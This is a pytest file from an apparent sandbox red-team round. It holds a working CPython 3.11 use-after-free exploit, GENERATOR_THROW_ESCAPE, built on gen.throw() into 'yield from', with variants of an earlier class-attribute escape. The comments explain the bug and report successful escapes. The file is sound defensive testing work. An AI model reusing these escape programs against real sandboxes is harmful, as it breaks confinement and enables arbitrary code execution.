"""Red team, round thirty-one: CPython 3.11 memory-safety bugs reachable from tree programs.

Programs the upload check accepts, run by a real ``Supervisor`` and ``Previewer`` in real
confined children, no mocks (``tests/hardening/confined_runs.py``). Every memory experiment runs
in a child, never in the pytest process. ``docs/red-team/round31-cpython.md`` has the
reproductions, what held and the suggested fixes. The escape's second half is every round's
(``FROM_MEMORY_TO_EXEC``) and the refill round sixteen's (``FAKE_MEM``: an 848-byte
``Ornament`` freed while the program still holds it, its chunk taken by a ``bytearray`` whose
bytes are a ``Mem`` header).

Each finding is a strict xfail until it is fixed; the tests not marked assert what held.
"""

from __future__ import annotations

import pytest

from runner.supervise.check import Checker
from tests.hardening.confined_runs import (
    FROM_MEMORY_TO_EXEC,
    assert_no_escape,
    config,
    tree_run,
)
from tests.hardening.test_round16_language import FAKE_MEM
from tests.hardening.test_round30_cpython import STALE_CLASS_ATTRIBUTE_ESCAPE

# --- 1. gen.throw() into a ``yield from`` pops the stack of a generator its callee closed -------
#
# CPython 3.11's ``_gen_throw`` (Objects/genobject.c), for a generator suspended in
# ``yield from inner`` where ``inner`` is not a generator, looks up ``inner.throw``, calls it with
# the generator marked as running, marks it suspended again, and only *then* releases the method
# (``Py_DECREF(meth)``). When the call raised, it pops the sub-iterator off the generator's own
# frame stack (``_PyFrame_StackPop``) and releases what it popped. If releasing the method runs a
# suspended generator's ``finally`` (the method is a fresh object only the C code holds: a
# property's answer, or an instance attribute the call deleted), that ``finally`` may call
# ``outer.close()``: allowed, as the outer generator is "suspended" again. The close finishes the
# outer generator and clears its frame (every local released), but the frame's stack top is left
# where it was; the pop then takes the frame's last *local* (already released) and releases it a
# second time. The program's object, held by that local and by one list, is freed while the list
# still holds it: the refill, a fake ``bytearray`` over all memory, the real builtins.
# No CPython issue found for it; 3.12 moved the pop into bytecode (``CLEANUP_THROW``,
# python/cpython gh-90997, PR 96010), and 3.11 (security fixes only) kept the C pop. The Pi's
# 3.11.2 has the same code. Found: every run (tree and dry run, both variants),
# ``completed``/``ended``, log "ESCAPED: pid, uid, environment: (..., 65534, ['LC_CTYPE'])".
# Plain CPython 3.11.7: "memory over everything: True" (a plain object in place of the Ornament:
# its refcount drops by one more than it should; with no local at all, a segfault).
GENERATOR_THROW_ESCAPE = (
    FAKE_MEM
    + """

def closer():
    try:
        yield 1
    finally:
        outer_gen.close()  # the outer generator, in the middle of its own throw()


class Thrower:
    def __init__(self):
        self.g = closer()
        next(self.g)

    def __call__(self, *args):
        del self  # the C caller's reference is now the only one
        raise ValueError("thrown")


class Inner:
    def __iter__(self):
        return self

    def __next__(self):
        return 1

    @property
    def throw(self):
        return Thrower()  # a fresh object each time: only _gen_throw holds it


inner = Inner()
stale = [Ornament((None,) + tuple(range(99)))]


def outer():
    x = stale[0]  # the frame's last local: released by the close, then again by the pop
    yield from inner


outer_gen = outer()
next(outer_gen)
try:
    outer_gen.throw(KeyError)
except ValueError as e:
    print("thrown:", e)
spray.extend([bytearray(FAKE) for i in range(50)])
print("text:", repr(stale[0]))
"""
    + FROM_MEMORY_TO_EXEC
)
GENERATOR_THROW_VARIANTS = {
    "property": GENERATOR_THROW_ESCAPE,
    # The method as an instance attribute the call deletes: no property, no class attribute.
    "instance-attribute": GENERATOR_THROW_ESCAPE.replace(
        "        del self  # the C caller's",
        "        del inner.throw\n        del self  # the C caller's",
    )
    .replace(
        "    @property\n    def throw(self):\n"
        "        return Thrower()  # a fresh object each time: only _gen_throw holds it\n",
        "    pass\n",
    )
    .replace("inner = Inner()\n", "inner = Inner()\ninner.throw = Thrower()\n"),
}


@pytest.mark.parametrize("variant", sorted(GENERATOR_THROW_VARIANTS))
def test_a_program_cant_make_throw_release_a_closed_generators_local(variant: str) -> None:
    assert_no_escape(GENERATOR_THROW_VARIANTS[variant], f"generator-throw-{variant}")


def test_the_generator_throw_program_is_accepted() -> None:
    # Nothing in it is refused at upload: generators, yield from, throw, close, property.
    for program in GENERATOR_THROW_VARIANTS.values():
        assert Checker(config()).check(program) == []


# --- What held: round thirty's class-write fix, by every other statement that stores ----------
#
# Round thirty's escape (a class attribute's old value handed back by the method cache while
# it is freed) with the store written other ways: a ``for`` target, an unpacking, a ``with ...
# as`` target, an augmented assignment, and the read made through a subclass of a subclass
# (whose cache entries point into the base's dictionary). All compile to a store on
# ``_write_(Shelf)``, the writer that holds the old value until the type's caches are invalid:
# the finalizer reads the new value and nothing is freed under the program.
_TRIGGER = "Shelf.attr = 5  # frees"
CLASS_WRITE_VARIANTS = {
    "for-target": STALE_CLASS_ATTRIBUTE_ESCAPE.replace(
        _TRIGGER, "for Shelf.attr in [5]:  # frees\n    pass\n#"
    ),
    "unpacking": STALE_CLASS_ATTRIBUTE_ESCAPE.replace(
        _TRIGGER, "Shelf.attr, Shelf.other = 5, 6  # frees\n#"
    ),
    "with-as": STALE_CLASS_ATTRIBUTE_ESCAPE.replace(
        _TRIGGER,
        "class Ctx:\n    def __enter__(self):\n        return 5\n\n"
        "    def __exit__(self, *a):\n        return False\n\n\n"
        "with Ctx() as Shelf.attr:  # frees\n    pass\n#",
    ),
    "augmented": STALE_CLASS_ATTRIBUTE_ESCAPE.replace(
        _TRIGGER, "Shelf.attr *= 0  # frees: the empty tuple replaces it\n#"
    ),
    "subclass-read": STALE_CLASS_ATTRIBUTE_ESCAPE.replace(
        "class Shelf:\n    pass\n",
        "class Base:\n    pass\n\n\nclass Shelf(Base):\n    pass\n\n\n"
        "class Low(Shelf):\n    pass\n",
    )
    .replace("stale.append(Shelf.attr)", "stale.append(Low.attr)")
    .replace("    Shelf.attr\n", "    Low.attr\n"),
}


@pytest.mark.parametrize("variant", sorted(CLASS_WRITE_VARIANTS))
def test_class_writes_by_any_statement_let_the_finalizer_see_the_new_value(variant: str) -> None:
    program = CLASS_WRITE_VARIANTS[variant]
    assert Checker(config()).check(program) == []
    assert_no_escape(program, f"class-write-{variant}")
    real = tree_run(program, f"class-write-{variant}")
    assert real.log.startswith(("text: 5\n", "text: ()\n")), real.log
